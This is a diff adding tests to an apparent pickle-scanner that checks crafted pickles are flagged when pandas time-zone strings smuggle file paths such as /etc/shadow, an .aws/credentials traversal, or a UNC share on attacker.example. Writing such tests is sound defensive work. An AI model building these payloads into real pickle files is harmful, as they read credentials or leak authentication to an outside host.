@@ -405,3 +405,56 @@ def test_format_with_a_spec_or_attribute_is_unknown() -> None:
         payload = _method(template, "format", u("os")) + u("system") + b"\x93"
         result = analyze_pickle_bytes(P4 + payload + STOP)
         assert "?.system" in result.callables, (template, result.callables)
+
+
+# --- allow-listed pandas calls that read a file named by the pickle --------------------------------------------
+# pandas resolves a time-zone string 'dateutil/<name>' with dateutil.tz.gettz(name), which opens <name> as a file
+# when it is a path: pandas.Timestamp(..., tz=...), pandas.DatetimeTZDtype(unit, tz) and _new_DatetimeIndex(cls,
+# {'tz': ...}) read /etc/shadow, block on /dev/stdin, or (on Windows) authenticate to a UNC share at load.
+# pickle writes time zones as objects (tzfile(None, path) of dateutil), never as such strings.
+
+_TZ_PATHS = [
+    "dateutil//etc/shadow",
+    "dateutil/../../../../home/user/.aws/credentials",
+    "dateutil/\\\\attacker.example\\share\\x",
+    "dateutil//dev/stdin",
+]
+
+
+@pytest.mark.parametrize("tz", _TZ_PATHS)
+@pytest.mark.parametrize(
+    "build",
+    [
+        lambda tz: call(g("pandas.DatetimeTZDtype"), u("ns"), u(tz)),
+        lambda tz: call(g("pandas.core.dtypes.dtypes.DatetimeTZDtype"), u("ns"), u(tz)),
+        lambda tz: call(g("pandas.Timestamp"), u("2020-01-01"), *[b"N"] * 8, u(tz)),
+        lambda tz: g("pandas.Timestamp") + tup(u("2020")) + b"}" + u("tz") + u(tz) + b"s\x92",
+        lambda tz: call(
+            g("pandas.core.indexes.datetimes._new_DatetimeIndex"),
+            g("pandas.DatetimeIndex"),
+            b"}(" + u("data") + b"]" + u("tz") + u(tz) + u("freq") + b"Nu",
+        ),
+    ],
+    ids=["dtype", "dtype-module", "timestamp", "timestamp-newobj-ex", "datetime-index"],
+)
+def test_pandas_time_zone_path_is_a_file_read(build: object, tz: str) -> None:
+    result = analyze_pickle_bytes(P4 + build(tz) + STOP)  # type: ignore[operator]
+    assert worst(result) == Severity.HIGH, result
+    assert any(f.rule_id == "LW-MODEL-004" for f in result.findings)
+
+
+def test_pandas_zone_names_and_real_tz_aware_objects_stay_clean() -> None:
+    for tz in ("dateutil/Europe/London", "dateutil/UTC", "Europe/Paris", "dateutil/Etc/GMT+5"):
+        clean(analyze_pickle_bytes(P4 + call(g("pandas.DatetimeTZDtype"), u("ns"), u(tz)) + STOP))
+    pd = pytest.importorskip("pandas")
+    dateutil_tz = pytest.importorskip("dateutil.tz")
+    objects = [
+        pd.Timestamp("2020-01-01", tz="dateutil/Europe/London"),
+        pd.Series(pd.date_range("2020", periods=3, tz="dateutil/Asia/Tokyo")),
+        pd.DatetimeTZDtype("ns", dateutil_tz.gettz("America/New_York")),
+        pd.DataFrame(
+            {"t": pd.date_range("2021", periods=2, tz="UTC"), "p": pd.period_range("2020", periods=2)}
+        ),
+    ]
+    for protocol in (2, 4, 5):
+        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))
